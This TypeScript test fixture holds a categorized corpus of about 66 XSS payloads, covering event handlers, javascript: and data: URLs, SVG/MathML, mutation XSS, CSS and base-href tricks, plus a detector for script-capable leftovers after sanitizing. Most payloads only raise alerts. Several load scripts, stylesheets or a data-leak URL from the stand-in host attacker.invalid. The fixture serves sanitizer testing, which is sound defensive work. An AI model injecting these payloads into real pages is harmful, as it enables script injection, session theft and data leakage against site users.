// Our own XSS set, written for this project: a few payloads per class of vector that the larger
// shared corpus covers. Every payload calls alert/prompt/confirm/print or a javascript: URL if it
// ever runs; the suites check that none runs and that nothing able to run survives.

export const XSS_CLASSES = [
  'script element',
  'event handler',
  'javascript: URL',
  'data: URL',
  'SVG',
  'MathML',
  'iframe srcdoc',
  'mutation XSS',
  'CSS',
  'form and formaction',
  'meta refresh',
  'base href',
  'embedded objects',
  'DOM clobbering',
  'broken markup',
] as const;

export type XssClass = (typeof XSS_CLASSES)[number];

export const XSS_VECTORS: ReadonlyArray<readonly [XssClass, string]> = [
  ['script element', '<script>alert(1)</script>'],
  ['script element', '<ScRiPt src="//attacker.invalid/x.js"></ScRiPt>'],
  ['script element', '<scr<script>ipt>alert(2)</scr</script>ipt>'],
  ['script element', '<div><script type="module">confirm(3)</script></div>'],
  ['event handler', '<img src="missing.png" onerror="alert(4)">'],
  ['event handler', '<img src=x onerror=alert&#40;5&#41;>'],
  ['event handler', '<body onload=alert(6)>'],
  ['event handler', '<p onmouseover="prompt(7)" ONCLICK="prompt(7)">pasa por aquí</p>'],
  ['event handler', '<input autofocus onfocus=alert(8)>'],
  ['event handler', '<details open ontoggle=confirm(9)><summary>x</summary></details>'],
  ['event handler', '<video><source onerror="alert(10)"></video>'],
  ['event handler', '<x/onpointerenter=alert(11)>mueve el ratón</x>'],
  ['event handler', '<marquee onstart=print()>titular</marquee>'],
  ['javascript: URL', '<a href="javascript:alert(12)">enlace</a>'],
  ['javascript: URL', '<a href="JaVaScRiPt:alert(13)">mayúsculas</a>'],
  ['javascript: URL', '<a href=" &#x09; javascript:alert(14)">espacios y tabulador</a>'],
  ['javascript: URL', '<a href="jav&#x61;script&#58;alert(15)">entidades hex</a>'],
  ['javascript: URL', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(16)">entidades decimales</a>'],
  ['javascript: URL', '<a href="java\tscript:alert(17)">tab en medio</a>'],
  ['javascript: URL', '<a href="&#x6A;avascript&colon;alert(18)">named colon</a>'],
  ['javascript: URL', '<img src="javascript:alert(19)">'],
  ['javascript: URL', '<area href="javascript:confirm(20)">'],
  ['javascript: URL', '<a href="vbscript:msgbox(21)">vbscript</a>'],
  ['data: URL', '<a href="data:text/html,<script>alert(22)</script>">data html</a>'],
  ['data: URL', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgyMyk8L3NjcmlwdD4=">data base64</a>'],
  ['data: URL', '<iframe src="data:text/html,<script>alert(24)</script>"></iframe>'],
  ['data: URL', '<embed src="data:image/svg+xml,<svg onload=alert(25)>">'],
  ['SVG', '<svg onload=alert(26)></svg>'],
  ['SVG', '<svg><script>alert(27)</script></svg>'],
  ['SVG', '<svg><a xlink:href="javascript:alert(28)"><text y="20">svg link</text></a></svg>'],
  ['SVG', '<svg><animate attributeName="href" values="javascript:alert(29)"/><a><text>x</text></a></svg>'],
  ['SVG', '<svg><set attributeName="onmouseover" to="alert(30)"/></svg>'],
  ['SVG', '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(31)&lt;/script&gt;"></iframe></foreignObject></svg>'],
  ['SVG', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(32)>#x"/></svg>'],
  ['MathML', '<math><maction actiontype="statusline" xlink:href="javascript:alert(33)">m</maction></math>'],
  ['MathML', '<math href="javascript:alert(34)">fórmula</math>'],
  ['MathML', '<math><mtext><img src=x onerror=alert(35)></mtext></math>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(36)</script>"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="&lt;img src=x onerror=alert(37)&gt;"></iframe>'],
  ['iframe srcdoc', '<frameset><frame src="javascript:alert(38)"></frameset>'],
  ['mutation XSS', '<noscript><p title="</noscript><img src=x onerror=alert(39)>"></noscript>'],
  ['mutation XSS', '<svg></p><style><a id="</style><img src=x onerror=alert(40)>"></a></style></svg>'],
  ['mutation XSS', '<math><mtext><table><mglyph><style><img src=x onerror=alert(41)></style></mglyph></table></mtext></math>'],
  ['mutation XSS', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(42)>'],
  ['mutation XSS', '<textarea><!--</textarea><img src=x onerror=alert(43)>--></textarea>'],
  ['mutation XSS', '<template><img src=x onerror=alert(44)></template>'],
  ['mutation XSS', '<svg><title><style><img src=x onerror=alert(45)></style></title></svg>'],
  ['mutation XSS', '<xmp><p title="</xmp><img src=x onerror=alert(46)>"></xmp>'],
  ['CSS', '<div style="background-image:url(javascript:alert(47))">fondo</div>'],
  ['CSS', '<p style="width:expression(alert(48))">expresión</p>'],
  ['CSS', '<style>@import "javascript:alert(49)";</style><b>import</b>'],
  ['CSS', '<style>body{-moz-binding:url("//attacker.invalid/x.xml#xss")}</style>'],
  ['CSS', '<style>*{background:url("//attacker.invalid/leak?")}</style><link rel="stylesheet" href="//attacker.invalid/x.css">'],
  ['CSS', '<div style="position:fixed;inset:0;z-index:2147483647;opacity:0" onclick=alert(50)>capa</div>'],
  ['form and formaction', '<form action="javascript:alert(51)"><button>enviar</button></form>'],
  ['form and formaction', '<form><button formaction="javascript:alert(52)">botón</button></form>'],
  ['form and formaction', '<form id="f"></form><input form="f" type="submit" formaction="javascript:alert(53)">'],
  ['form and formaction', '<isindex action="javascript:alert(54)" type="image">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(55)">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCg1Nik8L3NjcmlwdD4=">'],
  ['meta refresh', '<meta http-equiv="Content-Security-Policy" content="script-src *">'],
  ['base href', '<base href="javascript:alert(57)//"><a href="/x">relativo</a>'],
  ['base href', '<base href="https://attacker.invalid/"><img src="logo.png">'],
  ['embedded objects', '<object data="javascript:alert(58)"></object>'],
  ['embedded objects', '<embed src="javascript:alert(59)">'],
  ['embedded objects', '<object type="text/html" data="data:text/html,<script>alert(60)</script>"></object>'],
  ['embedded objects', '<applet code="x.class"></applet><portal src="https://attacker.invalid/"></portal>'],
  ['DOM clobbering', '<img name="getElementById"><form name="cookie"></form>'],
  ['DOM clobbering', '<a id="npConfig" href="javascript:alert(61)">clobber</a>'],
  ['broken markup', '<img src="x" onerror="alert(62)"'],
  ['broken markup', '"><img src=x onerror=alert(63)>'],
  ['broken markup', "'><svg/onload=alert(64)//"],
  ['broken markup', '<<img src=x onerror=alert(65)//>>'],
  ['broken markup', '<!--><img src=x onerror=alert(66)>-->'],
];

export const XSS_PAYLOADS: string[] = XSS_VECTORS.map(([, payload]) => payload);

const URL_ATTRIBUTES = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'background', 'poster', 'values', 'to', 'from', 'by'];
const RUNNABLE_ELEMENTS = ['script', 'iframe', 'frame', 'object', 'embed', 'base', 'meta', 'link', 'style', 'template', 'applet', 'portal'];
// Whitespace and C0 controls that URL parsing strips from a scheme.
// eslint-disable-next-line no-control-regex
const STRIPPED = /[\u0000-\u0020\u00a0\u1680\u180e\u2000-\u200b\u2028\u2029\u205f\u3000]/g;

/** What is left in `root` that could run script or load from elsewhere (empty when safe). */
export function dangerousLeftovers(root: ParentNode): string[] {
  const found: string[] = [];
  for (const element of root.querySelectorAll('*')) {
    if (RUNNABLE_ELEMENTS.includes(element.localName)) found.push(`<${element.localName}>`);
    for (const attribute of [...element.attributes]) {
      const value = attribute.value.replace(STRIPPED, '').toLowerCase();
      if (/^on/i.test(attribute.name)) found.push(`${element.localName}[${attribute.name}]`);
      if (attribute.name === 'srcdoc' || attribute.name === 'style') found.push(`${element.localName}[${attribute.name}]`);
      if (URL_ATTRIBUTES.includes(attribute.name) && /^(javascript|vbscript|data:text\/html)/.test(value)) found.push(`${element.localName}[${attribute.name}=${value.slice(0, 40)}]`);
    }
  }
  return found;
}
